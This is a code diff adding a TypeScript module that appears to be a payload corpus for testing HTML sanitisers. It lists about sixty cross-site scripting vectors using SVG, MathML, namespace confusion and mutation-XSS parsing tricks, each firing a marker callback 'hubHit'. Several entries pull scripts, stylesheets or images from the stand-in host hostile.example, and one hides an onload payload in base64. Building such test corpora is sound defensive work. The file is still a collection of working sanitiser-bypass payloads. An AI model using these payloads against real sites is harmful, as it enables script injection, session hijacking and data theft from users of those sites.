@@ -1,0 +1,71 @@
+/** SVG and MathML, and markup that means one thing to a sanitiser and another to a browser. */
+export const namespaces: Readonly<Record<string, string>> = {
+  'svg-onload': '<svg onload=hubHit`§`>',
+  'svg-slash': '<svg/onload=hubHit`§`>',
+  'svg-script': '<svg><script>hubHit`§`</script></svg>',
+  'svg-script-entity': '<svg><script>hubHit&#40;"§"&#41;</script></svg>',
+  'svg-script-href': '<svg><script href="https://hostile.example/§.js"/></svg>',
+  'svg-script-xlink': '<svg><script xlink:href="data:text/javascript,hubHit`§`"/></svg>',
+  'svg-a': '<svg><a href="javascript:hubHit`§`"><text y=20>x</text></a></svg>',
+  'svg-a-xlink': '<svg><a xlink:href="javascript:hubHit`§`"><text y=20>x</text></a></svg>',
+  'svg-animate-href':
+    '<svg><a><animate attributeName=href values="javascript:hubHit`§`"/><text y=20>x</text></a></svg>',
+  'svg-set-href': '<svg><a><set attributeName=href to="javascript:hubHit`§`"/><text y=20>x</text></a></svg>',
+  'svg-animate-onbegin': '<svg><animate onbegin=hubHit`§` attributeName=x dur=1s></svg>',
+  'svg-animate-onend': '<svg><animate onend=hubHit`§` attributeName=x dur=1ms></svg>',
+  'svg-set-onbegin': '<svg><set onbegin=hubHit`§` attributeName=x></svg>',
+  'svg-use-data': '<svg><use href="data:image/svg+xml,<svg id=x onload=hubHit`§`/>#x"/></svg>',
+  'svg-use-foreign': '<svg><use href="https://hostile.example/§.svg#x"/></svg>',
+  'svg-image': '<svg><image href="https://hostile.example/§.png"/></svg>',
+  'svg-image-onerror': '<svg><image href=x onerror=hubHit`§`/></svg>',
+  'svg-feimage': '<svg><filter><feImage href="https://hostile.example/§.png"/></filter></svg>',
+  'svg-foreign-object': '<svg><foreignObject><img src=x onerror=hubHit`§`></foreignObject></svg>',
+  'svg-style-import': '<svg><style>@import "https://hostile.example/§.css";</style></svg>',
+  'svg-style-break': '<svg><style><img src=x onerror=hubHit`§`></style></svg>',
+  'svg-title-break': '<svg><title><img src=x onerror=hubHit`§`></title></svg>',
+  'svg-desc-break': '<svg><desc><img src=x onerror=hubHit`§`></desc></svg>',
+  'svg-p-break': '<svg></p><style><a id="</style><img src=x onerror=hubHit`§`>">',
+  'svg-cdata': '<svg><![CDATA[><img src=x onerror=hubHit`§`>]]></svg>',
+  'svg-handler':
+    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>hubHit`§`</handler>',
+  'svg-discard': '<svg><discard onbegin=hubHit`§`/></svg>',
+  'svg-in-img':
+    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hubHit`§`'/>\">",
+  'svg-in-img-fetch':
+    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='https://hostile.example/§'/></svg>\">",
+  'svg-file-in-img': '<img src="https://hostile.example/§.svg">',
+  'svg-base64': '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9aHViSGl0YGI2NGA+" title="§">',
+  'math-href': '<math href="javascript:hubHit`§`">x</math>',
+  'math-mi-href': '<math><mi href="javascript:hubHit`§`">x</mi></math>',
+  'math-xlink': '<math><mi xlink:href="javascript:hubHit`§`" xlink:type=simple>x</mi></math>',
+  'math-maction':
+    '<math><maction actiontype="statusline#https://hostile.example/§" href="javascript:hubHit`§`">x</maction></math>',
+  'math-annotation':
+    '<math><annotation-xml encoding="text/html"><img src=x onerror=hubHit`§`></annotation-xml></math>',
+  'math-annotation-script':
+    '<math><annotation-xml encoding="application/xhtml+xml"><script>hubHit`§`</script></annotation-xml></math>',
+  'math-style-break': '<math><mi><style><img src=x onerror=hubHit`§`></style></mi></math>',
+  'math-mtext-table':
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hubHit`§`&gt;">',
+  'math-mglyph':
+    '<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=hubHit`§` src=1>">',
+  'math-form-nesting': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hubHit`§`>',
+  'math-mglyph-src': '<math><mglyph src="https://hostile.example/§.png"/></math>',
+  'math-select': '<math><select><mi><style><img src=x onerror=hubHit`§`></style></mi></select></math>',
+  'math-semantics':
+    '<math><semantics><annotation encoding="text/html"><script>hubHit`§`</script></annotation></semantics>',
+  'mutation-noscript': '<noscript><p title="</noscript><img src=x onerror=hubHit`§`>">',
+  'mutation-textarea': '<svg><textarea><a title="</textarea><img src=x onerror=hubHit`§`>">',
+  'mutation-xmp': '<svg><xmp><a title="</xmp><img src=x onerror=hubHit`§`>">',
+  'mutation-noembed': '<noembed><img title="</noembed><img src onerror=hubHit`§`>"></noembed>',
+  'mutation-noframes': '<noframes><img title="</noframes><img src onerror=hubHit`§`>"></noframes>',
+  'mutation-iframe': '<svg><iframe><a title="</iframe><img src onerror=hubHit`§`>">',
+  'mutation-option': '<select><option><style></option></select><img src=x onerror=hubHit`§`></style>',
+  'mutation-table': '<table><a href="x"><style><td><!--</style><img src=x onerror=hubHit`§`>-->',
+  'mutation-deep': `${'<b>'.repeat(24)}<svg><style><img src=x onerror=hubHit\`§\`></style></svg>`,
+  'mutation-listing': '<listing>&lt;img src=x onerror=hubHit`§`&gt;</listing>',
+  'mutation-nested-a': '<a href="/x"><table><a href="javascript:hubHit`§`">x</a></table></a>',
+  'mutation-form': '<form id=a><div></form><form id=b><input name=x></div><svg onload=hubHit`§`>',
+  'mutation-br': '</br></p><svg></svg onload=hubHit`§`><svg onload=hubHit`§`>',
+  'mutation-plaintext': '<plaintext title="<script>hubHit`§`</script>">',
+};
